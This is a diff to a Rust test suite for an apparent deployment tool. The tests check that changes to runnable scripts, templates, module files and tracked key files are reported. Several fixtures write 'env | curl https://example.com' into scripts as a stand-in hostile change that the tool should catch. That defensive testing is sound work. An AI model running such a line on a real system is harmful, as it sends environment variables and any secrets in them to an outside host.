@@ -175,15 +175,15 @@ fn what_a_command_may_run_is_compared_or_named() {
         "pass, show, x",
     ] {
         let work = Work::new();
-        for file in ["token.sh", "tools/t.sh", "Makefile", "app/tools/x.sh"] {
+        for file in ["token.sh", "tools/t.sh", "Makefile", "app/tools/x.sh", "app/page.html.tera"] {
             work.put(file, "echo good\n");
         }
-        work.put("app/.deployerignore", "/tools\n");
+        work.put("app/.deployerignore", "/tools\n/page.html.tera\n");
         work.put("deployment.yaml", &manifest("./app", &format!("{{ A: {{ from_command: [{command}] }} }}"), ""));
         work.commit();
         work.git(&["branch", "-q", "-f", "main"]);
         assert!(work.look("nothing changed").out.contains("no changes"), "{command}");
-        for file in ["token.sh", "tools/t.sh", "Makefile", "app/tools/x.sh"] {
+        for file in ["token.sh", "tools/t.sh", "Makefile", "app/tools/x.sh", "app/page.html.tera"] {
             work.put(file, "env | curl https://example.com\n");
             let run = work.attempt(command);
             if run.out.contains("content of") {
@@ -198,6 +198,7 @@ fn what_a_command_may_run_is_compared_or_named() {
         }
         // What the release sends is compared, and so is the manifest.
         work.put("app/page.html", "hello again\n");
+        work.put("app/conf.txt.tera", "b={{ A }}\n");
         let text = fs::read_to_string(work.repository().join("deployment.yaml")).expect("there");
         work.put("deployment.yaml", &format!("{text}    keep_releases: 4\n"));
         let run = work.attempt(command);
@@ -213,14 +214,22 @@ fn what_a_module_may_read_outside_of_its_directory_is_named() {
     work.put("shared/main.tf", "# one\n");
     let made = "version: 1\nproject: shop\nenvironments:\n  web:\n    provisioned: { module: { source: ./infra, resource: x.y } }\n    \
         ssh: { user: deploy, identity: { from_env: K } }\n";
-    work.put("deployment.yaml", made);
+    let plain = "  plain:\n    provisioned: { lxd: { image: \"ubuntu:24.04\" } }\n    ssh: { user: deploy, identity: { from_env: K } }\n";
+    work.put("deployment.yaml", &format!("{made}{plain}"));
     work.commit();
     work.git(&["branch", "-q", "-f", "main"]);
-    assert!(work.look("nothing changed").out.contains("no changes"));
+    let run = work.look("nothing changed");
+    assert!(run.out.to_lowercase().contains("no changes"), "{}{}", run.out, run.err);
     work.put("shared/main.tf", "# two\n");
     let run = work.attempt("a file that the module names");
-    shown(&run, "a file that the module names", "OpenTofu of web");
-    assert!(run.err.contains("may read shared/main.tf"), "{}", run.err);
+    assert!(
+        run.out.contains("OpenTofu of web") && run.err.contains("may read shared/main.tf"),
+        "{}{}",
+        run.out,
+        run.err
+    );
+    // A machine without files of the repository.
+    assert!(run.out.contains("No changes in <code>plain</code>"), "{}", run.out);
 }
 
 #[test]
@@ -231,9 +240,11 @@ fn a_key_that_git_tracks_is_compared() {
     work.commit();
     work.git(&["branch", "-q", "-f", "main"]);
     assert!(work.look("nothing changed").out.contains("no changes"));
-    work.put("key.enc", "two\n");
-    shown(&work.attempt("another key"), "another key", "content of key.enc");
-    work.git(&["reset", "-q", "--hard", "main"]);
+    for file in ["key.enc", "key.enc-cert.pub"] {
+        work.put(file, "two\n");
+        shown(&work.attempt("another key"), "another key", &format!("content of {file}"));
+        work.git(&["reset", "-q", "--hard", "main"]);
+    }
     work.link("key.enc", "/etc/hostname");
     work.commit();
     work.git(&["branch", "-q", "-f", "main"]);
@@ -261,7 +272,8 @@ fn nothing_is_taken_for_a_large_file() {
     for name in ["app/.deployerignore", "app/compose.yaml", "app/x.tera", "app/.env"] {
         work.git(&["checkout", "-q", "-f", "-B", "change", "main"]);
         work.put(name, &large);
-        let run = work.attempt(name);
+        work.commit();
+        let run = work.look(name);
         assert!(run.code == 64 && run.err.contains("UTF-8"), "{name}: {}{}", run.out, run.err);
         shown(&run, name, "What failed");
     }
@@ -278,7 +290,7 @@ fn the_settings_of_an_environment_that_comes_or_goes_are_shown() {
         shown(&run, stage, "curl example.com");
         work.manifest(&format!("  new:\n    registered: {{ address: 192.0.2.2 }}\n    stage: {stage}\n{command}"));
         let run = work.attempt(stage);
-        shown(&run, stage, "curl example.com");
+        assert!(run.out.contains("curl example.com"), "{}{}", run.out, run.err);
         // Only what the manifest says differs from what every new environment has.
         assert!(!run.out.contains("configure.engine.minimum"), "{}", run.out);
     }
